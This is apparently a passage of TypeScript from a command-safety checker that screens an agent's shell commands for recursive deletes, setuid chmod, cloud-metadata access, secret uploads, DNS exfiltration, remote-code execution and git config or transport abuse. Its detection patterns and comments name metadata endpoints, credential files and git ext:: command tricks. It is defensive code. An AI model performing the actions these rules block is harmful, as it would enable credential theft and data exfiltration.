    const recursive = name === 'rm' ? hasFlag(args, 'rR', ['--recursive']) : hasFlag(args, 'R', ['--recursive']);
    if (!recursive) return;
    const targets = name === 'rm' ? positionals(args) : positionals(args).slice(1);
    for (const t of targets) {
      const c = critical(t, cmd.cwd, ctx);
      if (!c) {
        // `rm -rf $(…)`, `rm -rf "$X"`, `` rm -rf `pwd`/.. ``: the tree that goes is only known at run time.
        // `$PWD/x` is under the tracked directory and `$TMPDIR/x` is scratch space.
        // An item `find` hands to `-exec rm -rf {}` lies under its roots: confined roots, confined item.
        const findItem = t.vars[0] === 'ITEM' && cmd.name?.value === 'find' && findConfined(ctx, cmd, cmd.args);
        if (!findItem && t.pattern.startsWith(UNKNOWN) && !sc.walked.assigned.has(t.vars[0] ?? '') && !(/^(PWD|TMPDIR)$/.test(t.vars[0] ?? '') && t.vars.length === 1 && !(t.flags & WordFlag.substitution) && /^"?\$\{?(PWD|TMPDIR)\}?\/[\w.-]/.test(t.raw) && !t.raw.includes('..'))) {
          opaque(ctx, sc, 'delete_target', `recursive ${name} of a path only known at run time (${truncate(t.raw, 40)})`, t.start, t.end);
        }
        continue;
      }
      if (c.level === 'deny') add(ctx, sc, 'deny', 'destroy.recursive_delete', `recursive ${name} of ${c.path}`, t.start, t.end);
      else add(ctx, sc, 'ask', 'fs.delete_workspace', `recursive ${name} of the workspace root or above (${c.path})`, t.start, t.end);
    }
  }
}

function chmodCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  const mode = positionals(args)[0];
  if (!mode) return;
  const v = mode.value ?? mode.raw;
  if (/^[0-7]?[4-7][0-7]{3}$/.test(v) || /[ugoa]*[+=][rwxXt]*s/.test(v)) {
    add(ctx, sc, 'deny', 'privesc.setuid', `chmod ${v} sets the setuid/setgid bit`, cmd.start, cmd.end);
  }
}

function parseSize(s: string): number {
  const m = /^(\d+(?:\.\d+)?)([kmgtpe]?)(i?b?)$/i.exec(s.trim());
  if (!m) return NaN;
  const mult: Record<string, number> = { '': 1, k: 1024, m: 1024 ** 2, g: 1024 ** 3, t: 1024 ** 4, p: 1024 ** 5, e: 1024 ** 6 };
  return Number(m[1]) * (mult[m[2]!.toLowerCase()] ?? 1);
}

function ddCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  const kv = new Map<string, string>();
  for (const a of args) {
    const m = /^(\w+)=(.*)$/.exec(a.value ?? '');
    if (m) kv.set(m[1]!, m[2]!);
  }
  const bs = parseSize(kv.get('bs') ?? kv.get('obs') ?? '512');
  const count = Number(kv.get('count') ?? 'NaN');
  const limit = ctx.p.policy.limits.tmpfsBytes * 4;
  if (Number.isFinite(count) && bs * count > limit) {
    add(ctx, sc, 'ask', 'resource.exhaustion', `dd writes ${Math.round((bs * count) / 1024 ** 3)} GiB`, cmd.start, cmd.end);
  } else if (!kv.has('count') && /^\/dev\/(zero|u?random)$/.test(kv.get('if') ?? '')) {
    add(ctx, sc, 'ask', 'resource.exhaustion', 'dd from an endless device without count=', cmd.start, cmd.end);
  }
}

function sizeCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[]): void {
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value ?? '';
    const s = /^(-l|-s|--length|--size)$/.test(v) ? args[i + 1]?.value ?? '' : /^(?:-l|-s|--length=|--size=)(.+)$/.exec(v)?.[1] ?? '';
    if (s && parseSize(s.replace(/^[+]/, '')) > ctx.p.policy.limits.tmpfsBytes * 4) {
      add(ctx, sc, 'ask', 'resource.exhaustion', `allocates ${s}`, cmd.start, cmd.end);
    }
  }
}

function archiveCmd(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  const creating = name !== 'tar' || args.some((a) => /^-?[a-zA-Z]*c[a-zA-Z]*$/.test(a.value ?? '') || a.value === '--create');
  if (!creating) return;
  for (const a of positionals(args)) {
    const c = critical(a, cmd.cwd, ctx);
    if (c && c.level === 'deny') add(ctx, sc, 'ask', 'exfil.bulk_archive', `archives ${c.path}`, a.start, a.end);
  }
}

function sqlCmd(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value;
    const isSql = /^(-e|-c|--execute|--command|--eval)$/.test(args[i - 1]?.value ?? '') || (name === 'sqlite3' && i > 0 && !isOpt(args[i]));
    if (!isSql) continue;
    if (v === null) {
      add(ctx, sc, 'ask', 'data.dynamic_sql', `${name} runs SQL only known at run time`, args[i]!.start, args[i]!.end);
    } else if (/\b(drop\s+(database|schema|table)|truncate\s+table|delete\s+from\s+\w+\s*(;|$)|flushall|dropDatabase)\b/i.test(v)) {
      add(ctx, sc, 'ask', 'data.destructive_sql', `${name} runs destructive SQL (${truncate(v, 40)})`, args[i]!.start, args[i]!.end);
    }
  }
}

// ---------------------------------------------------------------------------
// network

const METADATA_HOST = /^(169\.254\.\d+\.\d+|metadata(\.google\.internal)?|metadata\.azure\.com|100\.100\.100\.200|fd00:ec2::254|\[fd00:ec2::254\]|instance-data(\.ec2\.internal)?)$/i;

function hostOf(text: string): string | null {
  let t = text.trim();
  if (!t || t.startsWith('-')) return null;
  if (!/^[a-z][a-z0-9+.-]*:\/\//i.test(t)) {
    if (!/^[\w\u0001.-]+(\.[a-z\u0001]{2,}|\.\d+|\u0001)(:\d+)?(\/|$)/i.test(t) && !/^\d+(\.\d+){3}(:\d+)?(\/|$)/.test(t) && !/^localhost(:\d+)?(\/|$)/.test(t)) return null;
    t = 'http://' + t;
  }
  const m = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^/:?#]*)/i.exec(t);
  return m ? m[1]!.toLowerCase() : null;
}

/**
 * The host a URL parser (curl's, the WHATWG one) connects to: percent-escapes decoded and cut at
 * a decoded `/` (`169.254.169.254%2flatest`), IPv4 in any spelling (decimal, hex, octal, short
 * forms), IPv4-mapped IPv6 (`[::ffff:169.254.169.254]`) as the IPv4 it maps.
 */
function normaliseHost(h: string): string {
  if (h.includes(UNKNOWN)) return h;
  let t = h;
  if (t.includes('%')) {
    try {
      t = decodeURIComponent(t);
    } catch {
      // leave undecodable escapes as they are
    }
    t = t.split(/[/?#\\@]/)[0]!;
  }
  let host: string;
  try {
    host = new URL('http://' + t).hostname.toLowerCase();
  } catch {
    return t.toLowerCase();
  }
  const mapped = /^\[(?:0{0,4}:){0,5}:?ffff:([0-9a-f]{1,4}):([0-9a-f]{1,4})\]$/.exec(host);
  if (mapped) {
    const hi = parseInt(mapped[1]!, 16);
    const lo = parseInt(mapped[2]!, 16);
    return `${hi >> 8}.${hi & 255}.${lo >> 8}.${lo & 255}`;
  }
  return host;
}

/** Tools that fetch a URL: with a literal URL and nothing sent, a plain download (`network.fetch`). */
const FETCH_TOOLS = new Set(['curl', 'wget', 'http', 'https', 'httpie', 'xh', 'aria2c']);
/** Options of fetch tools that name the output file. */
const FETCH_OUTPUT = /^(-o|--output|-O|--output-document|--out|-d|--dir|--directory-prefix|-P)$/;

/**
 * Records the files a fetch tool writes, so that running one of them later in
 * the same command is seen for what it is: code from the network.
 */
function noteDownloads(ctx: Ctx, cmd: Cmd, name: string, args: readonly Word[], writes: readonly Word[]): void {
  const add1 = (p: string | null): void => {
    if (!p) return;
    const abs = p.startsWith('/') || p.startsWith('~') ? resolvePath(null, p) : cmd.cwd !== null ? resolvePath(cmd.cwd, p) : null;
    if (abs) ctx.downloads.add(abs);
    ctx.downloads.add(p.replace(/^\.\//, ''));
  };
  for (const w of writes) add1(w.value);
  let remoteName = false;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value ?? '';
    const eq = /^(--output|--output-document|--out)=(.*)$/.exec(v);
    if (eq) add1(eq[2]!);
    else if (FETCH_OUTPUT.test(v) && !(name === 'curl' && v === '-O')) add1(args[i + 1]?.value ?? null);
    else if ((name === 'curl' && /^-[a-zA-Z]*o$/.test(v)) || (name === 'wget' && /^-[a-zA-Z]*[OP]$/.test(v))) add1(args[i + 1]?.value ?? null);
    if (name === 'curl' && (/^-[a-zA-Z]*O[a-zA-Z]*$/.test(v) || v === '--remote-name' || v === '--remote-name-all')) remoteName = true;
  }
  // wget (and curl -O) without an output name save under the URL's last path segment.
  if (remoteName || name === 'wget' && !args.some((a) => /^(-O|--output-document)/.test(a.value ?? ''))) {
    for (const a of args) {
      const m = /^[a-z]+:\/\/[^/?#]+\/(?:[^?#]*\/)?([^/?#]+)/i.exec(a.value ?? '');
      if (m) add1(m[1]!);
    }
  }
}

/** Resolved path of a file operand, as the walker resolves it (`~/…` kept). */
function resolvedOperand(cmd: Cmd, v: string): string | null {
  return v.startsWith('/') || v.startsWith('~') ? resolvePath(null, v) : cmd.cwd !== null ? resolvePath(cmd.cwd, v) : null;
}

/**
 * Records the files this command writes with `>`/`>>` or `tee`, with their content when the
 * writer's output is known statically (`printf '%s\n' '…' > x.sh`, `cat > x.sh <<'EOF'`), so that
 * running one later in the same command is analysed as what it runs (write-then-run).
 */
/**
 * tree-sitter hangs `a && writer 'payload' >> f` redirects on the whole list (a nameless command):
 * the payload check runs for the list's last command, as if the redirect were its own.
 */
function hungRedirectPayload(ctx: Ctx, sc: Scope, cmd: Cmd, writes: Word[]): void {
  const i = sc.walked.cmds.indexOf(cmd);
  const prev = i > 0 ? sc.walked.cmds[i - 1] : undefined;
  const n = prev?.name?.value;
  if (!prev || !n || prev.inSubstitution || prev.end > cmd.end) return;
  let prog = n;
  if (n.includes('/') && prev.links.size > 0) {
    const abs = resolvePath(prev.cwd, n);
    if (abs !== null) prog = resolveLink(prev.links, abs);
  }
  const name = basename(prog);
  if (WRITERS.has(name)) checkPayload(ctx, sc, prev, name, prev.args, writes);
}

function noteWrittenFiles(ctx: Ctx, sc: Scope, cmd: Cmd): void {
  // tree-sitter hangs the redirects of `a && cat > f <<EOF` on the whole list: the walker gives them
  // a nameless command, and the output is the list's last command's (the one just before it).
  let producer = cmd;
  if (!cmd.name && cmd.redirects.length > 0) {
    const i = sc.walked.cmds.indexOf(cmd);
    const prev = i > 0 ? sc.walked.cmds[i - 1] : undefined;
    const here = cmd.redirects.find((r) => (r.kind === 'heredoc' || r.kind === 'herestring') && r.text !== null);
    const stdin: Stdin | null = here ? { kind: 'text', text: here.text!, start: here.start, end: here.end } : (cmd.stdin ?? prev?.stdin ?? null);
    if (prev?.name && !prev.inSubstitution && prev.end <= cmd.end) producer = { ...prev, stdin, redirects: [] };
  }
  for (const r of cmd.redirects) {
    if (r.kind !== 'file' || !r.target?.value || (r.fd !== null && r.fd !== '1' && r.fd !== '&')) continue;
    if (!/^(>|>\||&>)$/.test(r.op) && r.op !== '>>' && r.op !== '&>>') continue;
    const abs = resolvedOperand(cmd, r.target.value);
    if (!abs) continue;
    const d = r.op.endsWith('>>') ? null : describeStdin(ctx, { kind: 'pipe', from: [producer] });
    ctx.written.set(abs, d?.kind === 'text' ? d.text : null);
  }
  if (cmd.name?.value === 'tee') {
    const d = describeStdin(ctx, cmd.stdin);
    const append = cmd.args.some((a) => /^(-a|--append)$/.test(a.value ?? ''));
    for (const a of positionals(cmd.args)) {
      const abs = a.value ? resolvedOperand(cmd, a.value) : null;
      if (abs) ctx.written.set(abs, !append && d.kind === 'text' ? d.text : null);
    }
  }
}

/**
 * A script this command wrote earlier and now runs (`bash x.sh`, `./x.sh`, `source x.sh`,
 * `python3 x.py`): its content is what runs, so it is analysed like `bash -c` text; content the
 * chain could not see is opaque.
 */
function checkRunsWritten(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, name: string, args: readonly Word[]): void {
  if (ctx.written.size === 0) return;
  const shellLike = SHELLS.has(name) || name === 'source' || name === '.';
  const cands: string[] = [];
  if (name0.includes('/')) cands.push(name0);
  if (shellLike || isInterpreter(name)) {
    const first = args.find((a) => !isOpt(a));
    if (first?.value) cands.push(first.value);
  }
  for (const c of cands) {
    const abs = resolvedOperand(cmd, c);
    if (!abs || !ctx.written.has(abs)) continue;
    const text = ctx.written.get(abs)!;
    const at = sc.outer ?? { start: cmd.start, end: cmd.end };
    if (text === null) opaque(ctx, sc, 'written_script', `${name} runs ${c}, written earlier in this command with content the chain cannot see`, cmd.start, cmd.end);
    // bash runs a script line by line, so one with a syntax error still runs its first lines: not a parse.error deny of the command, a question.
    else if ((shellLike || !isInterpreter(name)) && parseWithin(ctx, text).hasError) opaque(ctx, sc, 'written_script', `${name} runs ${c}, written earlier in this command, which does not parse as bash`, cmd.start, cmd.end);
    else if (isInterpreter(name) && !shellLike) checkCode(ctx, sc, cmd, name, langOf(name), text, at, INTERP_HOST);
    else analyzeScript(ctx, text, sc.depth + 1, at, `script ${c} written earlier in this command`, cmd.cwd);
    return;
  }
}

/** A program, script or sourced file that this command downloaded earlier: remote code execution. */
function checkRunsDownload(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, name: string, args: readonly Word[]): void {
  if (ctx.downloads.size === 0) return;
  const cands: Word[] = [];
  if (name0.includes('/')) cands.push({ ...args[0]!, value: name0 });
  if (SHELLS.has(name) || isInterpreter(name) || name === 'source' || name === '.' || name === 'chmod') {
    const pos = positionals(args);
    if (pos[0]) cands.push(pos[0]);
    if (name === 'chmod' && pos[1]) cands.push(pos[1]);
  }
  for (const c of cands) {
    const v = c.value;
    if (!v) continue;
    const abs = v.startsWith('/') || v.startsWith('~') ? resolvePath(null, v) : cmd.cwd !== null ? resolvePath(cmd.cwd, v) : null;
    if (ctx.downloads.has(v.replace(/^\.\//, '')) || (abs && ctx.downloads.has(abs))) {
      add(ctx, sc, 'deny', 'exec.remote_code', `${name} runs ${v}, which this command downloaded`, cmd.start, cmd.end);
      return;
    }
  }
}

export function checkNetwork(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], writes: readonly Word[]): void {
  const fetchTool = FETCH_TOOLS.has(name);
  if (fetchTool) noteDownloads(ctx, cmd, name, args, writes);
  // A plain download: nothing sent, nothing in the command built at run time, no data piped in.
  // Not plain either: a fetch whose output becomes another command's arguments (`$(curl …)`), or one
  // on a later line of a multi-line command, where a reader skimming the first line does not see it.
  const at = sc.outer ?? cmd;
  const laterLine = ctx.top.lastIndexOf('\n', at.start - 1) !== -1 || (sc.outer !== null && sc.src.lastIndexOf('\n', cmd.start - 1) !== -1);
  const plain = fetchTool && !cmd.stdin && !cmd.inSubstitution && !laterLine && !args.some((a) => a.value === null || a.vars.length > 0 || (a.flags & WordFlag.substitution) !== 0 || NET_UPLOAD.test(a.value ?? '') || /^(-X|--request|--method)$/.test(a.value ?? '') || /^(POST|PUT|PATCH|DELETE)$/.test(a.value ?? '') || /^-[a-zA-Z]*[dFT]$/.test(a.value ?? '') || /^--post-(data|file)/.test(a.value ?? '') || /^[\w-]+(:=|==|=@|:=@|@)/.test(a.value ?? ''));
  const dnsTools = /^(dig|nslookup|host|ping|ping6|traceroute|mtr|whois)$/.test(name);
  let upload = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    const v = a.value ?? a.pattern;
    if (NET_UPLOAD.test(v)) {
      const val = v.includes('=') && v.startsWith('--') ? v.slice(v.indexOf('=') + 1) : args[i + 1]?.pattern ?? '';
      if (/^(-T|--upload-file|--post-file|--body-file)/.test(v) || /(^|=)[@<]/.test(val)) upload = true;
    }
    if (isOpt(a) && !v.includes('://')) continue;
    const prev = args[i - 1]?.value ?? '';
    if (/^(-H|--header|-d|--data\S*|-A|--user-agent|-u|--user|-o|--output|-w|--write-out|-X|--request|-e|--referer|-b|--cookie|-c|-F|--form|-T|-O|--output-document|--post-data|--header=.*|-p|-l|-i|-t|-c|-W|-m|--max-time|--connect-timeout|-r|-x|--proxy|-U|-K|--config|-E|--cert|--key|--cacert|-P|-s|-q|-W|-w|-4|-6)$/.test(prev) && !v.includes('://')) continue;
    const host = hostOf(a.pattern);
    if (!host) {
      if (dnsTools && (a.flags & WordFlag.substitution)) {
        add(ctx, sc, 'deny', 'exfil.dns', `${name} looks up a name built from command output (DNS exfiltration)`, a.start, a.end);
      }
      continue;
    }
    if (host.includes(UNKNOWN)) {
      recordNet(ctx, '*');
      if (a.flags & WordFlag.substitution) add(ctx, sc, 'deny', 'exfil.dns', `${name} contacts a host name built from command output (data leaks through DNS)`, a.start, a.end);
      else add(ctx, sc, 'ask', 'net.unknown_host', `${name} contacts a host only known at run time (${truncate(a.raw, 50)})`, a.start, a.end);
      continue;
    }
    const h = normaliseHost(host);
    recordNet(ctx, h);
    if (METADATA_HOST.test(h) || /(^|\.)169[.-]254[.-]\d+[.-]\d+\.(nip\.io|sslip\.io|xip\.io|nip\.direct)$/.test(h) || /^(0x[0-9a-f]+|\d{8,10}|0\d+(\.0?\d+)*)$/.test(host)) {
      add(ctx, sc, 'deny', 'net.cloud_metadata', `${name} contacts the cloud metadata service (${host}), which hands out credentials`, a.start, a.end);
      continue;
    }
    if (ctx.p.localHosts.has(h) || /^127\./.test(h)) continue;
    const mode = ctx.p.policy.network.mode;
    const where = `${h}${mode === 'none' ? ' (sandbox network mode is "none")' : ''}`;
    if (plain) add(ctx, sc, ctx.p.policy.network.fetch ?? ctx.p.policy.network.external, 'net.fetch', `${name} downloads from ${where}`, a.start, a.end);
    else add(ctx, sc, ctx.p.policy.network.external, 'net.external', `${name} contacts ${where}`, a.start, a.end);
  }
  if (upload) add(ctx, sc, 'ask', 'net.upload', `${name} uploads a file or piped data`, cmd.start, cmd.end);
  if (upload && cmd.stdin?.kind === 'pipe' && cmd.stdin.from.some((c) => /^(env|printenv|set)$/.test(c.name?.value ?? '') || /^(cat|head|tail|base64|xxd)$/.test(c.name?.value ?? '') && c.args.some((x) => /\.env|\.ssh|environ|credentials/.test(x.value ?? '')))) {
    add(ctx, sc, 'deny', 'exfil.upload_secrets', `${name} uploads secrets read earlier in the pipeline`, cmd.start, cmd.end);
  }
  const secretVars = args.flatMap((a) => a.vars).filter((v) => /TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|PRIVATE|CREDENTIAL|ACCESS_KEY|AUTH/i.test(v));
  if (secretVars.length) add(ctx, sc, 'ask', 'exfil.secret_env', `${name} sends the value of $${secretVars[0]}`, cmd.start, cmd.end);
}

// ---------------------------------------------------------------------------
// git, sed, packages

/**
 * `git -C DIR`, `--git-dir DIR`: git reads DIR's repository configuration, whose keys (core.fsmonitor, core.hooksPath,
 * hooks, filters) run programs. A repository outside the workspace was not written by the agent's visible steps, so
 * running git in it is a question.
 */
function foreignRepo(ctx: Ctx, sc: Scope, cmd: Cmd, opt: string, w: Word | undefined): void {
  if (!w || w.value === null) return;
  const abs = resolvePath(cmd.cwd, w.value);
  if (abs === null) return;
  const ws = ctx.p.policy.workspace.replace(/\/+$/, '');
  const path = abs.replace(/\/+$/, '') || '/';
  if (path === ws || path.startsWith(`${ws}/`)) return;
  add(ctx, sc, 'ask', 'git.config_exec', `git ${opt} ${truncate(w.value, 40)} runs git in a repository outside the workspace, whose configuration and hooks can run programs`, w.start, w.end);
}

function gitCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], chain: string[]): void {
  let i = 0;
  const dirOpts: (string | null)[] = [];
  for (; i < args.length; i++) {
    const v = args[i]!.value ?? args[i]!.raw;
    if (/^(-C|--git-dir|--work-tree)$/.test(v)) dirOpts.push(args[i + 1]?.value ?? null);
    else if (/^--(git-dir|work-tree)=/.test(v)) dirOpts.push(args[i]!.value === null ? null : v.slice(v.indexOf('=') + 1));
    let cfg: string | null = null;
    const fromEnv = v === '--config-env' || v.startsWith('--config-env=');
    if (v === '-c' || v === '--config-env') {
      cfg = args[i + 1]?.value ?? args[i + 1]?.raw ?? '';
      i++;
    } else if (v.startsWith('-c') && v.length > 2) cfg = v.slice(2);
    else if (v.startsWith('--config-env=')) cfg = v.slice('--config-env='.length);
    if (cfg !== null) {
      const [k = '', val = ''] = cfg.split(/=(.*)/s);
      // `--config-env=KEY=VAR`: the value is the variable's, only known at run time.
      const value = fromEnv ? null : val;
      if (gitKeyEffect(k, value) !== null && !(PAGER_KEY.test(k) && value !== null && PLAIN_VIEWER.test(value.trim()))) {
        add(ctx, sc, 'deny', 'git.config_exec', `git -c ${truncate(k, 40)} makes git run a program`, cmd.start, cmd.end);
      }
      continue;
    }
    if (/^(-C|--git-dir|--work-tree|--namespace)$/.test(v)) {
      if (v !== '--namespace') foreignRepo(ctx, sc, cmd, v, args[i + 1]);
      i++;
      continue;
    }
    if (/^--(git-dir|work-tree)=/.test(v)) foreignRepo(ctx, sc, cmd, v.slice(0, v.indexOf('=')), { ...args[i]!, value: v.slice(v.indexOf('=') + 1) });
    if (v.startsWith('--exec-path=') || /^--(git-dir|work-tree)=/.test(v) && /\/tmp\//.test(v)) {
      add(ctx, sc, 'deny', 'git.config_exec', 'git --exec-path points git at other helper programs', cmd.start, cmd.end);
      continue;
    }
    if (v.startsWith('-')) continue;
    break;
  }
  const sub = args[i]?.value ?? '';
  const rest = args.slice(i + 1);
  gitRepoStart(ctx, sc, cmd, dirOpts, args[i] && args[i]!.value === null ? '?' : sub, rest);
  if (GIT_PRINTS_CONTENT.has(sub)) gitContentReads(ctx, sc, cmd, sub, rest);
  gitExtTransports(ctx, sc, cmd, sub, rest);
  switch (sub) {
    case 'config': {
      const all = positionals(rest.filter((a, k) => !(/^(-f|--file|--blob|--type|--default|--value|--comment)$/.test(rest[k - 1]?.value ?? ''))));
      // git ≥ 2.46 spells the same with a verb first: `git config set KEY VALUE`.
      const pos = GIT_CONFIG_VERBS.has(all[0]?.value ?? '') ? all.slice(1) : all;
      const key = pos[0]?.value ?? '';
      const val = pos[1];
      if (val && /^remote\..+\.(url|pushurl)$/i.test(key)) {
        add(ctx, sc, 'ask', 'git.remote_change', `git config ${key} changes where pushes go`, cmd.start, cmd.end);
      }
      if (val && gitKeyEffect(key, val.value) !== null) {
        add(ctx, sc, 'deny', 'git.config_exec', `git config ${key} makes git run "${truncate(val.value ?? val.raw, 40)}"`, cmd.start, cmd.end);
      }
      return;
    }
    case 'push':
      return gitPush(ctx, sc, cmd, rest);
    case 'remote':
      if (/^(add|set-url)$/.test(rest[0]?.value ?? '')) add(ctx, sc, 'ask', 'git.remote_change', `git remote ${rest[0]!.value} changes where pushes go`, cmd.start, cmd.end);
      return;
    case 'init':
      // `--template DIR` copies DIR's hooks and config into the new repository: the same as `-c init.templateDir`.
      if (rest.some((a) => /^--template(=|$)/.test(a.value ?? a.raw))) {
        add(ctx, sc, 'deny', 'git.config_exec', 'git init --template installs hooks and configuration from another directory', cmd.start, cmd.end);
      }
      return;
    case 'clone':
    case 'fetch':
    case 'pull':
    case 'submodule':
    case 'ls-remote':
      if (rest.some((a) => /^(-u|--upload-pack|--template|--config)/.test(a.value ?? ''))) {
        add(ctx, sc, 'deny', 'git.config_exec', `git ${sub} with a transport or option that runs a program`, cmd.start, cmd.end);
      }
      if (sub === 'submodule' && rest[0]?.value === 'foreach') nestedFrom(ctx, sc, cmd, positionals(rest.slice(1)), chain, 'git submodule foreach');
      return;
    case 'rebase': {
      for (let k = 0; k < rest.length; k++) {
        const v = rest[k]!.value ?? '';
        const x = rebaseExec(v);
        if (x === 'next' && rest[k + 1]) nested(ctx, sc, cmd, rest[k + 1]!, 'git rebase --exec', chain);
        else if (x !== null && typeof x === 'object') analyzeScript(ctx, x.text, sc.depth + 1, spanOf(sc, rest[k]!), 'git rebase --exec', cmd.cwd);
        else if (x === 'unknown') opaque(ctx, sc, 'unknown_option', `git rebase option cluster ${truncate(v, 30)} may hold --exec`, rest[k]!.start, rest[k]!.end);
      }
      return;
    }
    case 'bisect':
      if (rest[0]?.value === 'run' && rest[1]?.value) analyzeArgv(ctx, sc, cmd, rest[1].value, rest[1], rest.slice(2), [], [...chain, 'git bisect run']);
      return;
    case 'filter-branch':
      add(ctx, sc, 'ask', 'git.history_rewrite', 'git filter-branch rewrites history and runs filter commands', cmd.start, cmd.end);
      return;
    case 'credential':
      add(ctx, sc, 'deny', 'exfil.secret_read', 'git credential prints stored credentials', cmd.start, cmd.end);
      return;
    default:
      return;
  }
}

/** Verbs of the newer `git config` syntax (`git config set KEY VALUE`, git ≥ 2.46). */
const GIT_CONFIG_VERBS: ReadonlySet<string> = new Set(['set', 'get', 'unset', 'list', 'edit', 'rename-section', 'remove-section', 'get-color', 'get-colorbool']);

/** Short `git rebase` switches that take no value, for reading clusters such as `-ix CMD`. */
const REBASE_FLAGS = 'ikmnqvfr';
/** Short `git rebase` switches whose value is the rest of the cluster or the next word (not a command). */
const REBASE_VALUED = 'sXC';

/**
 * Whether one `git rebase` argument gives `--exec`: `next` (the next word is the command), `{ text }` (it is
 * attached: `--exec=CMD`, `-xCMD`, `-ixCMD`), `unknown` (a short cluster the chain cannot read), or null.
 */
function rebaseExec(v: string): 'next' | 'unknown' | { text: string } | null {
  if (v === '--exec') return 'next';
  if (v.startsWith('--exec=')) return { text: v.slice(7) };
  if (!/^-[^-]/.test(v)) return null;
  for (let j = 1; j < v.length; j++) {
    const ch = v[j]!;
    if (ch === 'x') return j === v.length - 1 ? 'next' : { text: v.slice(j + 1) };
    if (REBASE_VALUED.includes(ch)) return null;
    if (!REBASE_FLAGS.includes(ch)) return v.includes('x') ? 'unknown' : null;
  }
  return null;
}

/**
 * `ext::CMD` names a git transport git runs as a program, wherever a URL or remote is given (clone, fetch,
 * `archive --remote=`, `push`, `remote add`, `submodule add`, `-c remote.x.url=`): the command is analysed
 * as what runs, and any such transport is denied. `ext::sh -c touch% /tmp/x`: a blank-separated argv, `% ` a
 * literal blank.
 */
function gitExtTransports(ctx: Ctx, sc: Scope, cmd: Cmd, sub: string, rest: readonly Word[]): void {
  for (const a of rest) {
    const m = /^(?:--?[\w-]+=)?(ext|fd)::(.*)$/s.exec(a.value ?? '');
    if (!m) continue;
    if (m[1] === 'ext') {
      const argv = m[2]!.split(/(?<!%) /).map((x) => x.replace(/% /g, ' ').replace(/%%/g, '%'));
      nestedText(ctx, sc, cmd, argv.map((x) => `'${x.replace(/'/g, "'\\''")}'`).join(' '), a, 'git ext:: transport');
    }
    add(ctx, sc, 'deny', 'git.config_exec', `git ${sub} with a transport that runs a program (${truncate(a.value ?? '', 30)})`, cmd.start, cmd.end);
  }
}

/** git config keys whose value is the program git pipes its output through (or opens text in). */
const PAGER_KEY = /^(core\.pager|pager\.[a-z-]+|core\.editor|sequence\.editor)$/i;
/**
 * A pager/editor value that only shows or edits text: `git -c core.pager=cat log` is how agents
 * turn paging off. Any other value is a program git runs, judged as `git.config_exec`.
 */
const PLAIN_VIEWER = /^(|cat|less( -[A-Za-z]+)*|more|head( -n ?\d+)?|tail( -n ?\d+)?|true|:|false|vi|vim|nvim|nano|emacs|code --wait|delta|diff-so-fancy)$/;

/** git subcommands that print file contents, from the work tree or from history. */
const GIT_PRINTS_CONTENT = new Set(['show', 'log', 'diff', 'cat-file', 'blame', 'annotate', 'grep', 'archive', 'format-patch', 'whatchanged']);

/**
 * `git show HEAD:.env`, `git log -p -- .env`: the file's contents come out of
 * git. Paths (and `<rev>:<path>`) are checked as reads by a reader, not by the
 * soft `git` tool (for which `git add .env` is no read).
 */
function gitContentReads(ctx: Ctx, sc: Scope, cmd: Cmd, sub: string, rest: readonly Word[]): void {
  for (const a of rest) {
    const v = a.value;
    if (v === null || (v.startsWith('-') && v !== '-')) continue;
    const colon = v.indexOf(':');
    const path = colon > 0 && !v.includes('://') ? v.slice(colon + 1) : v;
    if (!path || path === v && sub === 'show' && !/[./]/.test(path)) continue;
    checkPaths(ctx, sc, cmd, { ...a, value: path, raw: path, pattern: path }, 'read', `git ${sub}`);
  }
}

/** `git push` options that take a value (so the remote is found among the positionals). */
const GIT_PUSH_VALUE_OPTS = /^(--repo|--receive-pack|--exec|-o|--push-option|--signed|--recurse-submodules)$/;

/**
 * Pushing to the repository's configured remote is the ordinary workflow (the
 * sandbox's network policy decides whether it can reach it). What leaks code
 * or destroys work is a push somewhere else — a URL or path, or a remote added
 * in the same command — or one that rewrites or deletes remote history.
 */
function gitPush(ctx: Ctx, sc: Scope, cmd: Cmd, rest: readonly Word[]): void {
  const pos: Word[] = [];
  let destructive: string | null = null;
  for (let k = 0; k < rest.length; k++) {
    const a = rest[k]!;
    const v = a.value;
    if (v === null) {
      pos.push(a);
      continue;
    }
    if (v === '--') {
      pos.push(...rest.slice(k + 1));
      break;
    }
    if (v.startsWith('-')) {
      if (/^(-f|--force|--force-with-lease(=.*)?|--force-if-includes|--mirror|--delete|-d|--prune)$/.test(v) || /^-[a-zA-Z]*[fd]/.test(v) && !v.startsWith('--')) destructive = v;
      if (/^(--receive-pack|--exec)(=|$)/.test(v)) add(ctx, sc, 'deny', 'git.config_exec', `git push ${v} runs another program on the remote side`, a.start, a.end);
      if (/^--repo=/.test(v)) pos.unshift({ ...a, value: v.slice(7) });
      if (GIT_PUSH_VALUE_OPTS.test(v)) k++;
      continue;
    }
    pos.push(a);
  }
  const remote = pos[0];
  for (const r of pos.slice(1)) if (r.value !== null && /^[+:]/.test(r.value)) destructive ??= r.value;
  if (remote && remote.value === null) {
    opaque(ctx, sc, 'push_remote', `git push to a remote only known at run time (${truncate(remote.raw, 40)})`, remote.start, remote.end);
  } else if (remote && /:\/\/|@|^[./~]|^[A-Za-z]:|::/.test(remote.value!)) {
    add(ctx, sc, 'ask', 'git.push', `git push sends commits to ${truncate(remote.value!, 60)}, not to a configured remote`, remote.start, remote.end);
  } else if (remote && sc.walked.cmds.some((c) => c !== cmd && c.name?.value === 'git' && c.args.some((x) => x.value === 'remote') && c.args.some((x) => x.value === remote.value))) {
    add(ctx, sc, 'ask', 'git.push', `git push to "${remote.value}", a remote this command adds or changes`, remote.start, remote.end);
  }
